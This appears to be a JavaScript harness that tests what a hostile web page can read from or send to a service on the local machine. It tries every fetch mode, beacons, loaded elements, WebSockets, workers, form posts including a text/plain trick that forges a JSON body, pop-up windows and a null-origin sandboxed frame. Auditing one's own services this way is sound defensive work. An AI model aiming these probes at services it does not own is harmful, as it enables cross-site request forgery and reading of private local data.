"use strict";
// What a page of somebody else's tries on a service of this machine. Every way reports what it could read.

const METHODS = ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"];
const PATIENCE_MS = 3000; // for what never tells that it was refused
const AT_ONCE = 100;

async function attack({ target, routes, body, socket }) {
  const read = [];
  const waiting = [];
  for (const route of routes) {
    const ways = [...byFetch(body), ...bySending(body), ...byElement(), ...byConnecting(socket), ...byForm(body)];
    for (const [way, deed] of [...ways, ["opened window", openedWindow]]) waiting.push([way, route, deed]);
  }
  const tries = waiting.length;
  const work = async () => {
    for (let next = waiting.pop(); next; next = waiting.pop()) {
      const [way, route, deed] = next;
      try {
        const found = await (way.startsWith("fetch") ? deed(target + route) : within(deed(target + route)));
        if (found) read.push({ way, route, found: String(found).slice(0, 500) });
      } catch {
        // refused by the browser
      }
    }
  };
  await Promise.all(Array.from({ length: AT_ONCE }, work));
  return { origin: self.origin, tries, read };
}

function within(promise) {
  return Promise.race([promise, new Promise((resolve) => setTimeout(resolve, PATIENCE_MS))]);
}

function* byFetch(body) {
  const json = { "Content-Type": "application/json" };
  for (const method of METHODS) {
    const sent = method === "GET" || method === "HEAD" ? {} : { body };
    for (const [name, options] of [
      ["cors", { mode: "cors" }],
      ["cors with cookies", { mode: "cors", credentials: "include" }],
      ["cors, JSON", { mode: "cors", headers: json }],
      ["cors, a Bearer", { mode: "cors", headers: { ...json, Authorization: "Bearer guessed" } }],
      ["no-cors", { mode: "no-cors", credentials: "include" }],
      ["from the cache", { mode: "cors", cache: "force-cache" }],
    ]) {
      yield [`fetch ${method}, ${name}`, (url) => fetch(url, { method, ...sent, ...options }).then(told)];
    }
  }
  for (const type of ["", "text/plain", "application/x-www-form-urlencoded", "application/json", "text/json"]) {
    const blob = new Blob([body], { type });
    yield [`fetch POST, no-cors, ${type || "no type"}`, (url) => fetch(url, { method: "POST", mode: "no-cors", body: blob }).then(told)];
  }
  const form = new FormData();
  form.append("events", body);
  yield ["fetch POST, no-cors, a form", (url) => fetch(url, { method: "POST", mode: "no-cors", body: form }).then(told)];
}

async function told(response) {
  if (response.type === "opaque" || response.type === "opaqueredirect") return undefined;
  return `${response.status} ${await response.text()}`;
}

function* bySending(body) {
  for (const type of ["", "text/plain", "application/x-www-form-urlencoded", "application/json"]) {
    yield [`beacon, ${type || "no type"}`, async (url) => void navigator.sendBeacon(url, new Blob([body], { type }))];
  }
}

function* byElement() {
  // Whatever says that it was loaded tells a page of what is there.
  for (const [name, attribute, more] of [
    ["img", "src", {}],
    ["img", "src", { crossOrigin: "anonymous" }],
    ["script", "src", {}],
    ["script", "src", { type: "module" }],
    ["link", "href", { rel: "stylesheet" }],
    ["link", "href", { rel: "preload", as: "fetch", crossOrigin: "anonymous" }],
    ["audio", "src", {}],
    ["video", "src", {}],
  ]) {
    const event = name === "audio" || name === "video" ? "loadeddata" : "load";
    yield [`<${name}>`, (url) => element(name, { ...more, [attribute]: url }, event, () => "loaded")];
  }
  for (const [name, attribute] of [["iframe", "src"], ["object", "data"], ["embed", "src"]]) {
    yield [`<${name}>`, (url) => element(name, { [attribute]: url }, "load", inside)];
  }
}

function element(name, attributes, event, found) {
  return new Promise((resolve, reject) => {
    const made = Object.assign(document.createElement(name), attributes);
    const end = (then) => () => {
      try {
        resolve(then(made));
      } catch {
        reject();
      }
      made.remove();
    };
    made.addEventListener(event, end(found));
    made.addEventListener("error", end(() => undefined));
    document.body.append(made);
  });
}

function inside(frame) {
  return frame.contentDocument?.documentElement?.innerText;
}

function* byConnecting(socket) {
  yield ["WebSocket", (url) => opened(new WebSocket(url.replace("http", "ws")), "open", (one) => one.close())];
  yield ["WebSocket with a protocol", (url) => opened(new WebSocket(url.replace("http", "ws"), socket), "open", (one) => one.close())];
  yield ["EventSource", (url) => opened(new EventSource(url, { withCredentials: true }), "open", (one) => one.close())];
  yield ["import", (url) => import(url).then(() => "loaded")];
  yield ["Worker", (url) => opened(new Worker(url), "message", (one) => one.terminate())];
  yield ["importScripts", (url) => {
    const code = `importScripts(${JSON.stringify(url)}); postMessage("loaded");`;
    const worker = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
    return opened(worker, "message", (one) => one.terminate());
  }];
  yield ["service worker", (url) => navigator.serviceWorker.register(url).then(() => "registered")];
}

function opened(connection, event, end) {
  return new Promise((resolve) => {
    const done = (found) => () => {
      resolve(found);
      end(connection);
    };
    connection.addEventListener(event, done(event));
    connection.addEventListener("error", done(undefined));
  });
}

function* byForm(body) {
  for (const [method, enctype] of [
    ["POST", "application/x-www-form-urlencoded"],
    ["POST", "multipart/form-data"],
    ["POST", "text/plain"],
    ["GET", "application/x-www-form-urlencoded"],
  ]) {
    yield [`form ${method}, ${enctype}`, (url) => posted(url, method, enctype, body)];
  }
}

function posted(url, method, enctype, body) {
  const name = `frame-${Math.random()}`;
  const frame = Object.assign(document.createElement("iframe"), { name });
  const form = Object.assign(document.createElement("form"), { action: url, method, enctype, target: name });
  // As text/plain the two are one JSON document: {"events": …, "x": "="}
  form.append(Object.assign(document.createElement("input"), { name: body.replace(/}$/, ', "x": "'), value: '"}' }));
  document.body.append(frame, form);
  return new Promise((resolve, reject) => {
    frame.addEventListener("load", () => {
      try {
        if (frame.contentWindow.location.href !== "about:blank") resolve(inside(frame));
      } catch {
        reject();
      }
    });
    form.submit();
  }).finally(() => (frame.remove(), form.remove()));
}

async function openedWindow(url) {
  const other = window.open(url);
  await new Promise((resolve) => setTimeout(resolve, 1000));
  try {
    return other.location.href === "about:blank" ? undefined : other.document.documentElement.innerText;
  } finally {
    other.close();
  }
}

// In a frame without an origin: the same, told to the page around it.
addEventListener("message", async ({ data, source }) => {
  if (data.target) source.postMessage({ report: await attack(data) }, "*");
});

function attackWithoutOrigin(orders, script) {
  const frame = document.createElement("iframe");
  frame.sandbox = "allow-scripts allow-forms allow-popups";
  frame.srcdoc = `<!doctype html><body><script>${script}</` + "script>";
  return new Promise((resolve) => {
    addEventListener("message", ({ data }) => data.report && resolve(data.report));
    frame.addEventListener("load", () => frame.contentWindow.postMessage(orders, "*"));
    document.body.append(frame);
  });
}
